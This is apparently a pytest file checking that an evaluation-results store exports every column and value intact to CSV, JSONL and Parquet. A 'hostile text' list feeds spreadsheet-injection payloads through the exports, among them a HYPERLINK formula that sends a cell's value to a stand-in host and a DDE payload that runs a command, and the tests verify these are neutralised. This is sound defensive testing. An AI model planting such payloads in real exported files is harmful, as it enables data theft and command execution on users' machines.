"""Exports carry every column with its value: the run, the sample, ``value.*``, ``meta.*``
and the ``error`` of a failed call (read back with the csv and json modules, not by row count)."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from multitrust.results import export, load_results
from multitrust.store import ResultRow, Store


@pytest.fixture
def db(tmp_path: Path) -> Path:
    path = tmp_path / "s.db"
    with Store(path) as st:
        st.open_run(
            "run1",
            model="scripted/oracle",
            judge=None,
            profile="corrected",
            tasks=["T.5"],
            data={"kind": "synth", "seed": 3},
            settings={},
            package_version="0",
            git_commit=None,
        )

        def row(sid: str, **kw: object) -> ResultRow:
            base: dict[str, object] = {
                "run_id": "run1",
                "task_id": "T.5",
                "sample_id": sid,
                "variant": "text",
                "gen_key": None,
                "prompt": f"prompt {sid}",
                "images": [],
                "target": True,
                "meta": {},
                "output": None,
                "values": None,
                "label": None,
                "explanation": None,
                "scorer": "yes_no",
            }
            base.update(kw)
            return ResultRow(**base)  # type: ignore[arg-type]

        st.write_batch(
            [],
            [
                row(
                    "a",
                    output="Yes, it is.",
                    values={"correct": 1.0, "yes": 1.0},
                    meta={"kind": "color", "n": 2, "tags": ["x", "y"]},
                    label="yes",
                ),
                row(
                    "b",
                    output="No.",
                    values={"correct": 0.0, "yes": 0.0},
                    meta={"kind": "shape", "n": 5, "tags": []},
                    label="no",
                ),
                row(
                    "c",
                    meta={"kind": "color", "n": 7, "tags": []},
                    error="timeout: no answer within 1s",
                    error_kind="timeout",
                ),
            ],
        )
    return path


EXPECTED: dict[str, dict[str, object]] = {
    "a": {
        "model": "scripted/oracle",
        "task_id": "T.5",
        "output": "Yes, it is.",
        "label": "yes",
        "value_correct": 1.0,
        "value_yes": 1.0,
        "meta_kind": "color",
        "meta_n": 2,
        "meta_tags": '["x", "y"]',
        "error": None,
    },
    "b": {
        "output": "No.",
        "value_correct": 0.0,
        "value_yes": 0.0,
        "meta_kind": "shape",
        "meta_n": 5,
        "error": None,
    },
    "c": {
        "output": None,
        "value_correct": None,
        "meta_kind": "color",
        "meta_n": 7,
        "error": "timeout: no answer within 1s",
        "error_kind": "timeout",
    },
}


def _same(got: object, want: object) -> bool:
    """A CSV cell is text: compare numbers as numbers, None as an empty cell."""
    if want is None:
        return got in (None, "")
    if isinstance(want, (int, float)) and not isinstance(want, bool):
        return got not in (None, "") and float(got) == float(want)  # type: ignore[arg-type]
    return got == want


def _check(rows: list[dict[str, Any]]) -> None:
    by_id = {str(r["sample_id"]): r for r in rows}
    assert sorted(by_id) == ["a", "b", "c"]
    for sid, want in EXPECTED.items():
        for col, val in want.items():
            assert col in by_id[sid], f"column {col} missing"
            assert _same(by_id[sid][col], val), (sid, col, by_id[sid][col], val)


def test_load_results_has_value_meta_and_error_columns(db: Path) -> None:
    df = load_results(db, include_errors=True)
    cols = set(df.columns)
    assert not [c for c in cols if "." in c]  # plain identifiers
    assert {
        "aspect",
        "sub_aspect",
        "task_name",
        "latency_s",
        "input_tokens",
        "output_tokens",
    } <= cols
    assert str(df["meta_n"].dtype) == "Int64"  # integer meta stays integer
    a = df.set_index("sample_id").loc["a"]
    assert (a["aspect"], a["sub_aspect"], a["task_name"]) == (
        "truthfulness",
        "T.M",
        "Text misleading VQA",
    )
    assert df.set_index("sample_id").loc["a", "target"] == "true"
    assert {"value_correct", "value_yes", "meta_kind", "meta_n", "meta_tags"} <= cols
    assert {"error", "error_kind", "output", "prompt", "run_id", "model"} <= cols
    assert sorted(df["sample_id"]) == ["a", "b", "c"]  # errored rows by default, as export
    scored = load_results(db, include_errors=False)
    assert sorted(scored["sample_id"]) == ["a", "b"]
    assert sorted(load_results(db)["sample_id"]) == ["a", "b", "c"]


def test_csv_export_keeps_every_column_and_value(db: Path, tmp_path: Path) -> None:
    out = export(db, tmp_path / "out.csv")
    with out.open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert {"value_correct", "value_yes", "meta_kind", "meta_n", "meta_tags", "error"} <= set(
        rows[0]
    )
    _check(rows)


def test_jsonl_export_keeps_every_column_and_value(db: Path, tmp_path: Path) -> None:
    out = export(db, tmp_path / "out.jsonl")
    rows = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    _check(rows)


# --------------------------------------------------------------------------- hostile text

HOSTILE = [
    '=HYPERLINK("http://evil.test/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\tstarts with a tab",
    "\rstarts with a CR",
    "a lone\rCR inside",
    "a\nline feed",
    "a\r\nCRLF",
    "NUL\x00inside",
    'double "quotes" and, commas',
    "\u202eRTL override\u202c and \u200bzero\u200cwidth\u200d marks\ufeff",
    "line\u2028separator\u2029paragraph",
    "'already quoted",
    "",
    "x" * (1024 * 1024),  # a 1 MB answer
]


@pytest.fixture
def hostile_db(tmp_path: Path) -> Path:
    path = tmp_path / "h.db"
    with Store(path) as st:
        st.open_run(
            "run-h",
            model="=evil/model",
            judge=None,
            profile="corrected",
            tasks=["T.5"],
            data={"kind": "synth", "seed": 1},
            settings={},
            package_version="0",
            git_commit=None,
        )
        rows = [
            ResultRow(
                "run-h",
                "T.5",
                f"s{i}\r\n{text[:20]}",
                "text",
                None,
                text,
                [],
                text,
                {"note": text, "n": i, "neg": -i},
                text,
                {"correct": float(i % 2)},
                text[:50],
                text,
                "yes_no",
            )
            for i, text in enumerate(HOSTILE)
        ]
        st.write_batch([], rows)
    return path


def _undo(cell: str) -> str:
    return cell[1:] if cell.startswith("'") else cell


def test_csv_round_trip_of_hostile_text_row_for_row(hostile_db: Path, tmp_path: Path) -> None:
    out = export(hostile_db, tmp_path / "h.csv")
    limit = csv.field_size_limit(16 * 1024 * 1024)  # the stdlib reader's default is 128 KiB
    try:
        with out.open(newline="", encoding="utf-8") as f:
            rows = list(csv.DictReader(f))
    finally:
        csv.field_size_limit(limit)
    assert len(rows) == len(HOSTILE)  # a CR, LF or NUL never splits a row
    by_n = {int(r["meta_n"]): r for r in rows}
    for i, text in enumerate(HOSTILE):
        r = by_n[i]
        for col in ("output", "prompt", "target", "explanation", "meta_note"):
            assert _undo(r[col]) == text, (i, col)
            if text.startswith(("=", "+", "-", "@", "\t", "\r", "'")):
                assert r[col] == "'" + text  # neutralised (OWASP)
        assert _undo(r["sample_id"]) == f"s{i}\r\n{text[:20]}"
        assert _undo(r["model"]) == "=evil/model" and r["model"].startswith("'")
        assert int(r["meta_neg"]) == -i  # numbers are not text: never prefixed
    # every cell is quoted, and pandas reads the same rows
    raw = out.read_text(encoding="utf-8")
    assert raw.startswith('"run_id","model"')
    back = pd.read_csv(out, dtype=str, keep_default_na=False)
    assert len(back) == len(HOSTILE)
    assert sorted(_undo(v) for v in back["output"]) == sorted(HOSTILE)


def test_jsonl_round_trip_of_hostile_text_row_for_row(hostile_db: Path, tmp_path: Path) -> None:
    out = export(hostile_db, tmp_path / "h.jsonl")
    raw = out.read_bytes()
    assert raw.isascii()  # no U+2028 or other breaks a line splitter could cut at
    lines = raw.decode().splitlines()
    assert len(lines) == len(HOSTILE)
    recs = sorted((json.loads(x) for x in lines), key=lambda r: r["meta_n"])
    for i, text in enumerate(HOSTILE):
        assert recs[i]["output"] == text and recs[i]["meta_note"] == text
        assert recs[i]["target"] == text and recs[i]["model"] == "=evil/model"
        assert recs[i]["meta_n"] == i and isinstance(recs[i]["meta_n"], int)


def test_parquet_round_trip_of_hostile_text_row_for_row(hostile_db: Path, tmp_path: Path) -> None:
    out = export(hostile_db, tmp_path / "h.parquet")
    back = pd.read_parquet(out).sort_values("meta_n")
    assert list(back["output"]) == HOSTILE
    assert list(back["meta_note"]) == HOSTILE
    assert list(back["meta_n"]) == list(range(len(HOSTILE)))


def test_target_none_is_missing_not_the_string_null(db: Path, tmp_path: Path) -> None:
    with Store(db) as st:
        st.write_batch(
            [],
            [
                ResultRow(
                    "run1", "T.5", "d", "text", None, "p", [], None, {}, "x", None, None, None, None
                )
            ],
        )
    out = export(db, tmp_path / "t.jsonl")
    recs = {r["sample_id"]: r for r in map(json.loads, out.read_text().splitlines())}
    assert recs["d"]["target"] is None
    assert recs["a"]["target"] == "true"
